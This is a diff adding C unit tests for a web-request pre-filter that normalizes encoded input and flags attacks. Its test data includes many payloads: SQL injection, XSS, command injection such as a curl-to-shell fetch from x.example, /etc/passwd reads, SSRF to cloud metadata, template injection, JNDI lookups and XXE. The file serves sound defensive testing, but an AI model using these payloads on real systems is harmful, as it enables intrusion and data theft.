@@ -1,0 +1,253 @@
+/* SPDX-License-Identifier: BSD-3-Clause */
+/*
+ * Pre-filter unit tests: each normalization step, the shipped rules per
+ * category (a hit and near-misses that must stay silent), value extraction
+ * from forms, JSON (also cut short) and cookies, and match ranges that point
+ * at the text the rule saw.
+ *
+ *   test-prefilter RULES_DIR CACHE_DIR
+ */
+#include <glob.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <rte_eal.h>
+#include <rte_malloc.h>
+
+#include "dp.h"
+#include "prefilter.h"
+
+static int failures, checks;
+
+#define CHECK(cond, ...) do { \
+		checks++; \
+		if (!(cond)) { \
+			failures++; \
+			fprintf(stderr, "FAIL %s:%d: %s: ", __FILE__, __LINE__, #cond); \
+			fprintf(stderr, __VA_ARGS__); \
+			fputc('\n', stderr); \
+		} \
+	} while (0)
+
+static void
+norm_is(const char *in, const char *want)
+{
+	char out[PF_WORK];
+	int n = pf_normalize(in, (uint32_t)strlen(in), out, sizeof(out));
+
+	if (want == NULL) {
+		CHECK(n == -1, "'%s' needs no work, got %d", in, n);
+		return;
+	}
+	CHECK(n == (int)strlen(want) && memcmp(out, want, (size_t)n) == 0,
+			"'%s' -> '%.*s', want '%s'", in, n < 0 ? 0 : n, out, want);
+}
+
+static void
+test_normalize(void)
+{
+	norm_is("hello world", NULL);
+	norm_is("%27", "'");
+	norm_is("%2527", "'");				/* double */
+	norm_is("%252527", "'");			/* triple */
+	norm_is("%u0027%u003Cscript%u003E", "'<script>");	/* IIS %u */
+	norm_is("&#39;&#x27;&apos;&lt;&gt;&quot;", "'''<>\"");
+	norm_is("&#x3C;svg&#62;", "<svg>");
+	norm_is("%26lt%3Bscript%26gt%3B", "<script>");	/* entities inside percent */
+	norm_is("\xc0\xae\xc0\xae\xc0\xaf", "../");	/* overlong UTF-8 */
+	norm_is("%C0%AE%C0%AE%2F", "../");
+	norm_is("\xef\xbc\x9cscript\xef\xbc\x9e", "<script>");	/* fullwidth */
+	norm_is("\xe2\x91\xa0\xe2\x91\xa1\xe2\x91\xa6.\xe2\x93\xaa", "127.0");	/* circled */
+	norm_is("a%00b", "ab");				/* NUL */
+	norm_is("100%", "100%");			/* a lone % stays */
+	norm_is("%zz", "%zz");
+	norm_is("Zo\xc3\xab", "Zo\xc3\xab");		/* real UTF-8 untouched */
+	char deep[128] = "'";
+	for (int i = 0; i < 8; i++) {			/* 8 layers: bounded, no hang */
+		char t[128];
+		snprintf(t, sizeof(t), "%s", deep);
+		char *o = deep;
+		for (char *p = t; *p; p++)
+			o += sprintf(o, *p == '\'' ? "%%27" : *p == '%' ? "%%25" : "%c", *p);
+	}
+	char out[PF_WORK];
+	int n = pf_normalize(deep, (uint32_t)strlen(deep), out, sizeof(out));
+	CHECK(n > 0 && n < (int)strlen(deep), "8 layers decode partly, boundedly: %d", n);
+
+	char o[256];
+	uint32_t k = pf_sql_collapse("UNION/**/SELECT\t\n 1", 19, o, sizeof(o));
+	CHECK(k == 14 && memcmp(o, "UNION SELECT 1", 14) == 0, "sql: '%.*s'", (int)k, o);
+	const char *my = "/*!50000union*/ /*!select*/ 1";
+	k = pf_sql_collapse(my, (uint32_t)strlen(my), o, sizeof(o));
+	CHECK(memmem(o, k, "union select", 12) != NULL, "mysql comment: '%.*s'", (int)k, o);
+	const char *sh = "c'a't /e\"t\"c/pa\\sswd; who$@ami; wh$()oami ${}id";
+	k = pf_sh_collapse(sh, (uint32_t)strlen(sh), o, sizeof(o));
+	CHECK(k == 34 && memcmp(o, "cat /etc/passwd; whoami; whoami id", 34) == 0,
+			"sh: '%.*s'", (int)k, o);
+}
+
+static struct pf_engine *engine;
+static struct pf_ctx ctx;
+static struct mw_event *ev;
+
+static void
+reset(void)
+{
+	memset(ev, 0, MW_EVENT_SIZE);
+}
+
+static unsigned int
+cats_of(enum pf_class cls, const char *v)
+{
+	reset();
+	pf_scan(&ctx, ev, cls, "p", 1, v, (uint32_t)strlen(v));
+	return ev->pf_categories;
+}
+
+#define CAT(c) (1u << PF_CAT_##c)
+
+static void
+hit(enum pf_class cls, const char *v, unsigned int want)
+{
+	unsigned int got = cats_of(cls, v);
+	CHECK(got & want, "%s '%s': categories 0x%x, want 0x%x", pf_class_names[cls], v, got, want);
+}
+
+static void
+quiet(const char *v)
+{
+	unsigned int got = cats_of(PF_CLASS_values, v);
+	CHECK(got == 0, "benign '%s' flagged 0x%x (%s)", v, got,
+			ev->pf_nmatch ? engine->rules[ev->pf[0].rule].name : "");
+}
+
+static void
+test_categories(void)
+{
+	hit(PF_CLASS_values, "1' OR '1'='1", CAT(sqli));
+	hit(PF_CLASS_values, "-1 UNION/**/ALL/**/SELECT null,version()--", CAT(sqli));
+	hit(PF_CLASS_values, "1;WAITFOR DELAY '0:0:5'--", CAT(sqli));
+	hit(PF_CLASS_path, "/films/1'/**/or/**/1=1--", CAT(sqli));
+	hit(PF_CLASS_values, "<svg/onload=alert(1)>", CAT(xss));
+	hit(PF_CLASS_values, "jav&#x09;ascript:alert(document.domain)", CAT(xss));
+	hit(PF_CLASS_values, "\"><img src=x onerror=prompt(1)>", CAT(xss));
+	hit(PF_CLASS_values, "8.8.8.8; cat /etc/passwd", CAT(cmdi));
+	hit(PF_CLASS_values, "x|c'a't${IFS}/etc/pa''sswd", CAT(cmdi));
+	hit(PF_CLASS_values, "`/usr/bin/w?oami`", CAT(cmdi));
+	hit(PF_CLASS_values, "$(curl http://x.example/s.sh|sh)", CAT(cmdi));
+	hit(PF_CLASS_values, "../../../../etc/passwd", CAT(traversal) | CAT(lfi));
+	hit(PF_CLASS_path, "/download/..%252f..%252f..%252fetc%252fshadow", CAT(traversal));
+	hit(PF_CLASS_values, "php://filter/convert.base64-encode/resource=index.php", CAT(lfi));
+	hit(PF_CLASS_values, "http://169.254.169.254/latest/meta-data/iam/", CAT(ssrf));
+	hit(PF_CLASS_values, "http://0x7f000001:6379/", CAT(ssrf));
+	hit(PF_CLASS_values, "gopher://127.0.0.1:25/_HELO", CAT(ssrf));
+	hit(PF_CLASS_values, "{{7*7}}", CAT(ssti));
+	hit(PF_CLASS_values, "{{''.__class__.__mro__[1].__subclasses__()}}", CAT(ssti));
+	hit(PF_CLASS_values, "${T(java.lang.Runtime).getRuntime().exec('id')}", CAT(ssti));
+	hit(PF_CLASS_headers, "${jndi:ldap://x.example/a}", CAT(jndi));
+	hit(PF_CLASS_headers, "${${lower:j}${::-n}di:rmi://x.example/a}", CAT(jndi));
+	hit(PF_CLASS_names, "password[$ne]", CAT(nosqli));
+	hit(PF_CLASS_names, "$where", CAT(nosqli));
+	hit(PF_CLASS_values, "'; return this.password.match(/^a/); var x='", CAT(nosqli));
+	hit(PF_CLASS_values, "*)(uid=*))(|(uid=*", CAT(ldapi));
+	hit(PF_CLASS_values, "en%0d%0aSet-Cookie:%20admin=1", CAT(crlf));
+	hit(PF_CLASS_body, "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM "
+			"\"file:///etc/passwd\">]><r>&x;</r>", CAT(xxe));
+	hit(PF_CLASS_cookies, "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA", CAT(deserialization));
+	hit(PF_CLASS_values, "O:8:\"stdClass\":1:{s:1:\"a\";}", CAT(deserialization));
+
+	/* the generator's tricky benign content, and real-world look-alikes */
+	quiet("O'Brien");
+	quiet("D'Angelo & Sons");
+	quiet("Select the best seat from the list");
+	quiet("union station");
+	quiet("drop table talk");
+	quiet("rock & roll");
+	quiet("{{name}}");
+	quiet("${total}");
+	quiet("<b>bold</b> and <em>italic</em>");
+	quiet("<3");
+	quiet("Zo\xc3\xab Kr\xc3\xa1kow");
+	quiet("123 Union Street");
+	quiet("C:\\Users\\me\\Videos");
+	quiet("50% off, was $20");
+	quiet("me@example.com");
+	quiet("Tom's and Jerry's");
+	quiet("1 + 1 = 2");
+	quiet("select");
+	quiet("what's up? -- nothing");
+}
+
+static void
+test_extraction_and_ranges(void)
+{
+	const char *q = "page=2&q=1%27%20or%20%271%27%3D%271&sort=name";
+	uint16_t n;
+
+	reset();
+	pf_scan_form(&ctx, ev, q, (uint32_t)strlen(q));
+	const char *t = mw_event_field(ev, MW_FIELD_norm, &n);
+	CHECK(ev->pf_categories & CAT(sqli), "form value");
+	CHECK(n > 2 && memcmp(t, "q=", 2) == 0, "record names the parameter: '%.*s'", n, t);
+	if (ev->pf_nmatch) {
+		const struct mw_match *m = &ev->pf[0];
+		CHECK(m->from < m->to && m->to <= n && memmem(t + m->from, m->to - m->from, "'", 1),
+				"range %u..%u inside '%.*s'", m->from, m->to, n, t);
+		CHECK(m->field == PF_CLASS_values, "field class %u", m->field);
+	}
+	const char *js = "{\"user\":{\"$ne\":null},\"note\":\"\\u003cscript\\u003e\"}";
+	reset();
+	pf_scan_json(&ctx, ev, js, (uint32_t)strlen(js));
+	CHECK((ev->pf_categories & (CAT(nosqli) | CAT(xss))) == (CAT(nosqli) | CAT(xss)),
+			"json key and escaped value: 0x%x", ev->pf_categories);
+	const char *cut = "{\"a\":1,\"bio\":\"hi <script>alert(docu";
+	reset();
+	pf_scan_json(&ctx, ev, cut, (uint32_t)strlen(cut));
+	CHECK(ev->pf_categories & CAT(xss), "json cut inside a value: 0x%x", ev->pf_categories);
+	const char *ck = "sid=abc123; theme=%3Csvg%20onload%3Dalert(1)%3E; lang=en";
+	reset();
+	pf_scan_cookies(&ctx, ev, ck, (uint32_t)strlen(ck));
+	t = mw_event_field(ev, MW_FIELD_norm, &n);
+	CHECK((ev->pf_categories & CAT(xss)) && n > 6 && memcmp(t, "theme=", 6) == 0,
+			"cookie value: '%.*s'", n, t);
+
+	/* many matches: the event keeps the strongest, never overflows */
+	reset();
+	for (int i = 0; i < 20; i++) {
+		const char *v = i % 2 ? "x<script>alert(1)</script>" : "1 union select 1,2--";
+		pf_scan(&ctx, ev, PF_CLASS_values, "v", 1, v, (uint32_t)strlen(v));
+	}
+	CHECK(ev->pf_nmatch == MW_EVENT_MAX_MATCHES, "bounded: %u", ev->pf_nmatch);
+	CHECK(ev->field[MW_FIELD_norm].off + ev->field[MW_FIELD_norm].len <= MW_EVENT_DATA_SIZE,
+			"norm text fits");
+}
+
+int
+main(int argc, char **argv)
+{
+	char *eal[] = { argv[0], "--no-huge", "--no-shconf", "-m", "128", "--no-pci", "-l", "0",
+		"--log-level", "lib.eal:error", NULL };
+	char pattern[4096];
+	glob_t gl;
+
+	if (argc != 3) {
+		fprintf(stderr, "usage: test-prefilter RULES_DIR CACHE_DIR\n");
+		return 2;
+	}
+	snprintf(pattern, sizeof(pattern), "%s/*.rules", argv[1]);
+	if (rte_eal_init(10, eal) < 0 || glob(pattern, 0, NULL, &gl) != 0)
+		return 2;
+	test_normalize();
+	engine = pf_engine_load((const char *const *)gl.gl_pathv, (int)gl.gl_pathc, argv[2], stderr);
+	if (engine == NULL || pf_ctx_init(&ctx, engine, 0) < 0)
+		return 2;
+	ev = rte_zmalloc("ev", MW_EVENT_SIZE, 64);
+	test_categories();
+	test_extraction_and_ranges();
+	printf("%d checks, %d failed\n", checks, failures);
+	pf_ctx_free(&ctx);
+	pf_engine_free(engine);
+	globfree(&gl);
+	rte_eal_cleanup();
+	return failures ? 1 : 0;
+}
